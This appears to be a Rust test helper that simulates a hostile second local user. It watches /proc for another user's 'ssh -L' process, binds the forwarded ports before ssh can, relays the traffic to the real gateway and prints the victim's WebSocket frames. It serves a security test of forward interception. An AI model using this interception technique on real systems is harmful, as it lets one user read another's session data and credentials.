//! The second local user's process for the ssh test `another_local_user_cannot_intercept_the_openssh_forward`, started through setpriv as `noclaw`.
//!
//! It watches /proc for the victim's `ssh -L` (its argv names the marker path), binds every
//! TCP port such a forward names before ssh does, relays to the real gateway and prints what
//! the victim sent: `ssh ARGV` for each ssh it sees, `bound PORT` for each port it took,
//! `frame TEXT` for each WebSocket frame, and `socket PATH opened|refused` for Unix-socket
//! forwards. It stops by itself after 120 s (the test kills it sooner).

use std::collections::HashSet;
use std::io::{Read, Write};
use std::time::{Duration, Instant};

use clawlink_tests::cmdline;

fn main() {
    let (Some(marker), Some(upstream)) = (
        std::env::var_os("CLAWLINK_ATTACK_MARKER"),
        std::env::var_os("CLAWLINK_ATTACK_UPSTREAM"),
    ) else {
        eprintln!("usage: CLAWLINK_ATTACK_MARKER=PATH CLAWLINK_ATTACK_UPSTREAM=HOST:PORT ssh-forward-interceptor");
        std::process::exit(2);
    };
    let marker = marker.to_string_lossy().into_owned();
    let upstream = upstream.to_string_lossy().into_owned();
    let mut seen_pids = HashSet::new();
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(120) {
        for entry in std::fs::read_dir("/proc").unwrap().flatten() {
            let Some(pid) = entry
                .file_name()
                .to_str()
                .and_then(|p| p.parse::<u32>().ok())
            else {
                continue;
            };
            if seen_pids.contains(&pid) {
                continue;
            }
            let argv = cmdline(pid);
            let is_victims_ssh = argv.first().is_some_and(|a| a.ends_with("ssh"))
                && argv.iter().any(|a| a.contains(&marker))
                && argv.iter().any(|a| a == "-L");
            if !is_victims_ssh {
                continue;
            }
            seen_pids.insert(pid);
            println!("ssh {}", serde_json::to_string(&argv).unwrap());
            for spec in argv
                .windows(2)
                .filter(|w| w[0] == "-L")
                .map(|w| w[1].clone())
            {
                if spec.starts_with('/') {
                    let socket = spec.split(':').next().unwrap().to_owned();
                    let outcome = match std::os::unix::net::UnixStream::connect(&socket) {
                        Ok(_) => "opened",
                        Err(_) => "refused",
                    };
                    println!("socket {socket} {outcome}");
                    continue;
                }
                // [bind_address:]port:host:hostport
                let parts: Vec<&str> = spec.split(':').collect();
                let port = parts[parts.len() - 3];
                if let Ok(listener) = std::net::TcpListener::bind(format!("127.0.0.1:{port}")) {
                    println!("bound {port}");
                    let upstream = upstream.clone();
                    std::thread::spawn(move || intercept(listener, &upstream));
                }
            }
        }
        std::thread::sleep(Duration::from_millis(2));
    }
}

/// Relays each connection to the real gateway and prints the client's WebSocket frames.
fn intercept(listener: std::net::TcpListener, upstream: &str) {
    for client in listener.incoming().flatten() {
        let Ok(server) = std::net::TcpStream::connect(upstream) else {
            continue;
        };
        let (mut client_read, mut server_write) =
            (client.try_clone().unwrap(), server.try_clone().unwrap());
        let (mut server_read, mut client_write) = (server, client);
        std::thread::spawn(move || {
            let _ = std::io::copy(&mut server_read, &mut client_write);
        });
        std::thread::spawn(move || {
            let mut buffer = Vec::new();
            let mut chunk = [0u8; 16384];
            let mut decoded = 0;
            while let Ok(n) = client_read.read(&mut chunk) {
                if n == 0 || server_write.write_all(&chunk[..n]).is_err() {
                    break;
                }
                buffer.extend_from_slice(&chunk[..n]);
                decoded = print_client_frames(&buffer, decoded);
            }
        });
    }
}

/// Prints the masked client frames in `buffer` after the HTTP upgrade, from offset `from`;
/// returns where the next undecoded frame starts.
fn print_client_frames(buffer: &[u8], from: usize) -> usize {
    let Some(headers_end) = buffer.windows(4).position(|w| w == b"\r\n\r\n") else {
        return from;
    };
    let mut at = from.max(headers_end + 4);
    loop {
        let rest = &buffer[at..];
        if rest.len() < 2 {
            return at;
        }
        let mut length = (rest[1] & 0x7f) as usize;
        let mut header = 2;
        if length == 126 {
            if rest.len() < 4 {
                return at;
            }
            length = u16::from_be_bytes([rest[2], rest[3]]) as usize;
            header = 4;
        } else if length == 127 {
            if rest.len() < 10 {
                return at;
            }
            length = u64::from_be_bytes(rest[2..10].try_into().unwrap()) as usize;
            header = 10;
        }
        let masked = rest[1] & 0x80 != 0;
        let mask_len = if masked { 4 } else { 0 };
        if rest.len() < header + mask_len + length {
            return at;
        }
        let mask = &rest[header..header + mask_len];
        let payload: Vec<u8> = rest[header + mask_len..header + mask_len + length]
            .iter()
            .enumerate()
            .map(|(i, b)| if masked { b ^ mask[i % 4] } else { *b })
            .collect();
        println!("frame {}", String::from_utf8_lossy(&payload));
        at += header + mask_len + length;
    }
}
